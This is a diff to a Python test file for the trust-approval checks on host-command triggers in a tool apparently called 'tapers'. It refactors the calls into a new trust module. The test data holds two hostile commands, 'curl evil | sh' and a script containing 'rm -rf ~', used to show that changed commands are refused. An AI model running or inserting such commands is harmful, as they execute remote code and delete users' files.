@@ -9,7 +9,7 @@ from pathlib import Path
 import pytest
 
 from tapers.backend.api import State
-from tapers.engine import triggers
+from tapers.engine import triggers, trust
 from tapers.engine.plan import plan_destroy, plan_halt, with_triggers
 from tapers.errors import TaperfileError, TriggerError
 from tapers.project import open_project
@@ -83,18 +83,18 @@ def test_host_commands_need_approval_and_any_change_asks_again(tmp_path: Path, m
     (folder / "Taperfile.yaml").write_text(TAPERFILE)
     project = open_project(folder / "Taperfile.yaml")
     with pytest.raises(TriggerError) as refused:
-        triggers.require_trust(project, {"halt"})
+        trust.require(project, triggers.host_commands(project, {"halt"}))
     assert "`db` trigger 2, after halt/destroy: sh -c 'echo gone'" in refused.value.message
     assert "tapers trust" in (refused.value.hint or "")
-    triggers.require_trust(project, {"up"})  # no host command runs on `up`: nothing to approve
+    trust.require(project, triggers.host_commands(project, {"up"}))  # no host command runs on `up`: nothing to approve
 
-    triggers.trust(project, triggers.host_commands(project))
-    triggers.require_trust(project, {"halt"})
-    assert (tmp_path / "home" / triggers.TRUSTED).stat().st_mode & 0o777 == 0o600
+    trust.approve(project, triggers.host_commands(project))
+    trust.require(project, triggers.host_commands(project, {"halt"}))
+    assert (tmp_path / "home" / trust.TRUSTED).stat().st_mode & 0o777 == 0o600
 
     (folder / "Taperfile.yaml").write_text(TAPERFILE.replace("echo gone", "curl evil | sh"))
     with pytest.raises(TriggerError):
-        triggers.require_trust(open_project(folder / "Taperfile.yaml"), {"halt"})
+        trust.require(other := open_project(folder / "Taperfile.yaml"), triggers.host_commands(other, {"halt"}))
 
 
 def test_a_changed_script_file_asks_again(tmp_path: Path, monkeypatch) -> None:
@@ -103,11 +103,11 @@ def test_a_changed_script_file_asks_again(tmp_path: Path, monkeypatch) -> None:
     (tmp_path / "Taperfile.yaml").write_text(
         "version: 1\nmachines:\n  db:\n    triggers:\n      - {after: up, run: {path: notify.sh}}\n")
     project = open_project(tmp_path / "Taperfile.yaml")
-    triggers.trust(project, triggers.host_commands(project))
-    triggers.require_trust(project, {"up"})
+    trust.approve(project, triggers.host_commands(project))
+    trust.require(project, triggers.host_commands(project, {"up"}))
     (tmp_path / "notify.sh").write_text("rm -rf ~\n")
     with pytest.raises(TriggerError, match="the script notify.sh:\n    \\| rm -rf ~"):
-        triggers.require_trust(project, {"up"})
+        trust.require(project, triggers.host_commands(project, {"up"}))
 
 
 def test_a_script_changed_after_the_check_is_not_run(tmp_path: Path, monkeypatch) -> None:
@@ -120,8 +120,8 @@ def test_a_script_changed_after_the_check_is_not_run(tmp_path: Path, monkeypatch
     (tmp_path / "Taperfile.yaml").write_text(
         "version: 1\nmachines:\n  db:\n    triggers:\n      - {after: up, run: {path: notify.sh}}\n")
     project = open_project(tmp_path / "Taperfile.yaml")
-    triggers.trust(project, triggers.host_commands(project))
-    triggers.require_trust(project, {"up"})
+    trust.approve(project, triggers.host_commands(project))
+    trust.require(project, triggers.host_commands(project, {"up"}))
     (tmp_path / "notify.sh").write_text(f"echo swapped > {marker}\n")
     (db,) = project.machines
     with pytest.raises(TriggerError, match="changed since you approved it"):
@@ -144,7 +144,7 @@ def test_a_relative_interpreter_is_not_run(tmp_path: Path, monkeypatch) -> None:
     (tmp_path / "Taperfile.yaml").write_text(
         "version: 1\nmachines:\n  db:\n    triggers:\n      - {after: up, run: {path: notify.sh}}\n")
     project = open_project(tmp_path / "Taperfile.yaml")
-    triggers.trust(project, triggers.host_commands(project))
+    trust.approve(project, triggers.host_commands(project))
     (db,) = project.machines
     with pytest.raises(TriggerError, match="not an absolute path"):
         triggers.run_on_host(project, "db", db.triggers[0], "up", SilentReporter())
@@ -161,7 +161,7 @@ def test_a_host_script_gets_its_path_arguments_and_the_project(tmp_path: Path, m
         "version: 1\nmachines:\n  db:\n    triggers:\n"
         "      - {after: up, run: {path: bin/notify.sh, args: [one, two words], env: {GREETING: hi}}}\n")
     project = open_project(tmp_path / "Taperfile.yaml")
-    triggers.trust(project, triggers.host_commands(project))
+    trust.approve(project, triggers.host_commands(project))
     (db,) = project.machines
     triggers.run_on_host(project, "db", db.triggers[0], "up", SilentReporter())
     assert (tmp_path / "out").read_text() == f"bin/notify.sh|one|two words|{tmp_path}|after up|hi\n"
